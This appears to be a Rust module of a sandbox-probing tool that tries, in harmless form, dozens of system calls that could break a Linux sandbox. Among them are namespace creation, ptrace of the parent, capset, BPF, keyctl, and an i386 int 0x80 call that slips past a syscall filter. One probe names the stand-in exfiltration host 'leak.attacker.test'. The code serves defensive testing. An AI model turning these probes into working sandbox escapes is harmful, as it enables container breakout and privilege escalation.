//! Rights and system calls that could undo the sandbox. Each affects at most the attempt's own process.

use std::os::fd::{AsRawFd as _, FromRawFd as _, OwnedFd};

use libc::{
    CLONE_NEWCGROUP, CLONE_NEWIPC, CLONE_NEWNET, CLONE_NEWNS, CLONE_NEWPID, CLONE_NEWUSER,
    CLONE_NEWUTS,
};
use nix::errno::Errno;
use nix::unistd::{ForkResult, fork};

use crate::sys::call;
use crate::{Attempted, Vector, vector};

pub const VECTORS: &[Vector] = &[
    vector("unshare-user", |_, _| unshare(CLONE_NEWUSER)),
    vector("unshare-net", |_, _| unshare(CLONE_NEWNET)),
    vector("unshare-mount", |_, _| unshare(CLONE_NEWNS)),
    vector("unshare-cgroup", |_, _| unshare(CLONE_NEWCGROUP)),
    vector("unshare-ipc", |_, _| unshare(CLONE_NEWIPC)),
    vector("unshare-pid", |_, _| unshare(CLONE_NEWPID)),
    vector("unshare-uts", |_, _| unshare(CLONE_NEWUTS)),
    // CLONE_NEWTIME (linux/sched.h).
    vector("unshare-time", |_, _| unshare(0x80)),
    vector("clone-user", |_, _| clone(CLONE_NEWUSER)),
    vector("clone-net", |_, _| clone(CLONE_NEWNET)),
    vector("clone-pid", |_, _| clone(CLONE_NEWPID)),
    vector("clone3-user", clone3),
    vector("setns", |_, _| {
        let own = std::fs::File::open("/proc/self/ns/net").map_err(|error| errno_of(&error))?;
        call(libc::SYS_setns, [descriptor(own.as_raw_fd()), 0, 0, 0, 0, 0]).map(drop)
    }),
    vector("chroot", |_, _| {
        call(libc::SYS_chroot, [c"/".as_ptr() as usize, 0, 0, 0, 0, 0]).map(drop)
    }),
    vector("setuid", |_, _| call(libc::SYS_setresuid, [0; 6]).map(drop)),
    vector("capset", |_, _| {
        // struct __user_cap_header_struct of version 3, and two of the data: what a full root has.
        let mut header = [0x2008_0522_u32, 0];
        let mut held = [0_u32; 6];
        let head = header.as_mut_ptr() as usize;
        call(libc::SYS_capget, [head, held.as_mut_ptr() as usize, 0, 0, 0, 0])?;
        // CAP_NET_ADMIN and CAP_NET_RAW, permitted and effective.
        held[0] |= 0x3000;
        held[1] |= 0x3000;
        call(libc::SYS_capset, [head, held.as_ptr() as usize, 0, 0, 0, 0]).map(drop)
    }),
    vector("ptrace-me", |_, _| call(libc::SYS_ptrace, [0; 6]).map(drop)),
    vector("ptrace-parent", |_, _| {
        let parent = descriptor(nix::unistd::getppid().as_raw());
        call(libc::SYS_ptrace, [0x4206, parent, 0, 0, 0, 0])?; // PTRACE_SEIZE
        Ok(())
    }),
    vector("vm-read", |_, _| {
        let own = descriptor(nix::unistd::getpid().as_raw());
        call(libc::SYS_process_vm_readv, [own, 0, 0, 0, 0, 0]).map(drop)
    }),
    vector("pidfd-getfd", pidfd_getfd),
    vector("bpf-next", |_, _| {
        let mut attribute = [0_u64; 2];
        match call(libc::SYS_bpf, [11, attribute.as_mut_ptr() as usize, 16, 0, 0, 0]) {
            // There may be no program: that is an answer to somebody who may ask.
            Err(Errno::ENOENT) => Ok(()),
            other => other.map(drop),
        }
    }),
    vector("bpf-map", |_, _| {
        // BPF_MAP_CREATE of an array: type, key size, value size, entries.
        let mut attribute = [2_u32, 4, 4, 1, 0, 0, 0, 0];
        call(libc::SYS_bpf, [0, attribute.as_mut_ptr() as usize, 32, 0, 0, 0]).map(drop)
    }),
    vector("perf", |_, _| {
        // struct perf_event_attr, first version: software event, CPU clock.
        let mut attribute = [0_u64; 8];
        attribute[0] = 64 << 32 | 1;
        let everyone = usize::MAX;
        let address = attribute.as_mut_ptr() as usize;
        call(libc::SYS_perf_event_open, [address, 0, everyone, everyone, 0, 0]).map(drop)
    }),
    vector("keyctl", |_, _| {
        call(libc::SYS_keyctl, [0, (-2_isize).cast_unsigned(), 1, 0, 0, 0]).map(drop)
    }),
    vector("add-key", |_, _| {
        let (kind, name) = (c"user".as_ptr() as usize, c"awf-probe".as_ptr() as usize);
        call(libc::SYS_add_key, [kind, name, name, 1, (-2_isize).cast_unsigned(), 0]).map(drop)
    }),
    vector("request-key", |_, _| {
        // Without call-out information the kernel starts no helper: "no such key" is its answer to those who may ask.
        let (kind, name) =
            (c"dns_resolver".as_ptr() as usize, c"leak.attacker.test".as_ptr() as usize);
        match call(libc::SYS_request_key, [kind, name, 0, 0, 0, 0]) {
            Err(Errno::ENOKEY) => Ok(()),
            other => other.map(drop),
        }
    }),
    vector("io-uring", |_, _| {
        let mut parameters = [0_u64; 15];
        call(libc::SYS_io_uring_setup, [1, parameters.as_mut_ptr() as usize, 0, 0, 0, 0]).map(drop)
    }),
    vector("seccomp-self", |_, _| filter(0)),
    // SECCOMP_FILTER_FLAG_NEW_LISTENER.
    vector("seccomp-notify", |_, _| filter(8)),
    // LANDLOCK_CREATE_RULESET_VERSION.
    vector("landlock", |_, _| {
        call(libc::SYS_landlock_create_ruleset, [0, 0, 1, 0, 0, 0]).map(drop)
    }),
    vector("kexec", |_, _| told(libc::SYS_kexec_load, [0, 0, 0, usize::MAX, 0, 0])),
    vector("swapon", |_, _| told(libc::SYS_swapon, [0, 0, 0, 0, 0, 0])),
    vector("fanotify", |_, _| call(libc::SYS_fanotify_init, [0; 6]).map(drop)),
    // SYSLOG_ACTION_SIZE_BUFFER.
    vector("syslog", |_, _| call(libc::SYS_syslog, [10, 0, 0, 0, 0, 0]).map(drop)),
    vector("hostname", |_, _| {
        let name = nix::unistd::gethostname()?;
        let name = name.as_encoded_bytes();
        call(libc::SYS_sethostname, [name.as_ptr() as usize, name.len(), 0, 0, 0, 0]).map(drop)
    }),
    // Neither time nor zone: whoever may call it is told so.
    vector("settime", |_, _| call(libc::SYS_settimeofday, [0; 6]).map(drop)),
    vector("kill-everybody", |_, _| {
        // Signal 0 is none.
        let everybody = usize::MAX;
        call(libc::SYS_kill, [everybody, 0, 0, 0, 0, 0]).map(drop)
    }),
    vector("userfaultfd", |_, _| call(libc::SYS_userfaultfd, [0; 6]).map(drop)),
    vector("file-handle", |_, _| {
        let mut handle = [128_u32; 40];
        let mut mount = 0_i32;
        let (path, out) = (c"/".as_ptr() as usize, handle.as_mut_ptr() as usize);
        call(libc::SYS_name_to_handle_at, [at_here(), path, out, (&raw mut mount) as usize, 0, 0])
            .map(drop)
    }),
    vector("personality", |_, _| {
        // READ_IMPLIES_EXEC.
        call(libc::SYS_personality, [0x0040_0000, 0, 0, 0, 0, 0]).map(drop)
    }),
    vector("reboot", |_, _| {
        // Wrong magic numbers: whoever may call it is told so.
        match call(libc::SYS_reboot, [0; 6]) {
            Err(Errno::EINVAL) => Ok(()),
            other => other.map(drop),
        }
    }),
    vector("init-module", |_, _| match call(libc::SYS_init_module, [0; 6]) {
        Err(Errno::ENOEXEC | Errno::EFAULT) => Ok(()),
        other => other.map(drop),
    }),
    vector("iopl", |_, _| legacy_port_access()),
    vector("call-32", |_, _| call_32()),
    vector("call-x32", |_, _| call(0x4000_0000 + libc::SYS_getpid, [0; 6]).map(drop)),
    vector("call-unknown", |_, _| call(0x3fff_0000, [0; 6]).map(drop)),
];

/// The errno of an I/O error.
pub fn errno_of(error: &std::io::Error) -> Errno {
    Errno::from_raw(error.raw_os_error().unwrap_or(libc::EIO))
}

/// A call so wrong that it changes nothing: whoever may make it at all is told so.
fn told(number: libc::c_long, arguments: [usize; 6]) -> Attempted {
    match call(number, arguments) {
        Err(Errno::EINVAL | Errno::EFAULT) => Ok(()),
        other => other.map(drop),
    }
}

/// Installs a filter that allows everything.
fn filter(flags: usize) -> Attempted {
    nix::sys::prctl::set_no_new_privs()?;
    let allow = libc::sock_filter { code: 6, jt: 0, jf: 0, k: libc::SECCOMP_RET_ALLOW };
    let program = libc::sock_fprog { len: 1, filter: (&raw const allow).cast_mut() };
    // SECCOMP_SET_MODE_FILTER.
    call(libc::SYS_seccomp, [1, flags, (&raw const program) as usize, 0, 0, 0]).map(drop)
}

fn unshare(flags: i32) -> Attempted {
    call(libc::SYS_unshare, [descriptor(flags), 0, 0, 0, 0, 0]).map(drop)
}

/// clone(2) as fork(2), with a new namespace; the child ends at once.
fn clone(flags: i32) -> Attempted {
    let flags = descriptor(flags | libc::SIGCHLD);
    if call(libc::SYS_clone, [flags, 0, 0, 0, 0, 0])? == 0 {
        // SAFETY: ends the child.
        unsafe { libc::_exit(0) }
    }
    Ok(())
}

fn clone3(_: &crate::target::Target, _: &str) -> Attempted {
    // struct clone_args, first version: flags, then the exit signal as the fifth word.
    let mut arguments = [0_u64; 8];
    arguments[0] = u64::from(CLONE_NEWUSER.cast_unsigned());
    arguments[4] = 17;
    if call(libc::SYS_clone3, [arguments.as_mut_ptr() as usize, 64, 0, 0, 0, 0])? == 0 {
        // SAFETY: ends the child.
        unsafe { libc::_exit(0) }
    }
    Ok(())
}

/// Takes a descriptor out of a child of our own.
fn pidfd_getfd(_: &crate::target::Target, _: &str) -> Attempted {
    let (_reader, writer) = std::io::pipe().map_err(|error| errno_of(&error))?;
    // SAFETY: the attempt's process has no other thread.
    let ForkResult::Parent { child } = (unsafe { fork() })? else {
        // SAFETY: waits for the signal that ends it.
        unsafe { libc::pause() };
        unreachable!("the child is killed");
    };
    let process = call(libc::SYS_pidfd_open, [descriptor(child.as_raw()), 0, 0, 0, 0, 0])?;
    let process = i32::try_from(process).expect("a descriptor");
    // SAFETY: the kernel has just made it for us.
    let process = unsafe { OwnedFd::from_raw_fd(process) };
    let wanted = [descriptor(process.as_raw_fd()), descriptor(writer.as_raw_fd()), 0, 0, 0, 0];
    let taken = call(libc::SYS_pidfd_getfd, wanted);
    nix::sys::signal::kill(child, nix::sys::signal::Signal::SIGKILL)?;
    taken.map(drop)
}

/// `AT_FDCWD` as an argument.
pub fn at_here() -> usize {
    isize::try_from(libc::AT_FDCWD).expect("fits").cast_unsigned()
}

/// A non-negative number as an argument.
pub fn descriptor(number: i32) -> usize {
    usize::try_from(number).expect("not negative")
}

#[cfg(target_arch = "x86_64")]
fn legacy_port_access() -> Attempted {
    call(libc::SYS_iopl, [3, 0, 0, 0, 0, 0]).map(drop)
}

#[cfg(not(target_arch = "x86_64"))]
fn legacy_port_access() -> Attempted {
    Err(Errno::EPERM)
}

/// socket(2) by the calling convention of i386, where it has number 359: the filter knows other numbers.
#[cfg(target_arch = "x86_64")]
fn call_32() -> Attempted {
    let mut result: i64 = 359;
    // SAFETY: three numbers go in, one comes out; rbx belongs to the compiler and is put back.
    unsafe {
        std::arch::asm!(
            "xchg {family}, rbx",
            "int 0x80",
            "xchg {family}, rbx",
            family = inout(reg) 2_i64 => _,
            inout("rax") result,
            in("rcx") 1_i64,
            in("rdx") 0_i64,
            out("r8") _, out("r9") _, out("r10") _, out("r11") _,
        );
    }
    // The kernel gives 32 bits.
    let result = i32::try_from(result << 32 >> 32).expect("32 bits");
    if result < 0 { Err(Errno::from_raw(-result)) } else { Ok(()) }
}

#[cfg(not(target_arch = "x86_64"))]
fn call_32() -> Attempted {
    Err(Errno::ENOSYS)
}
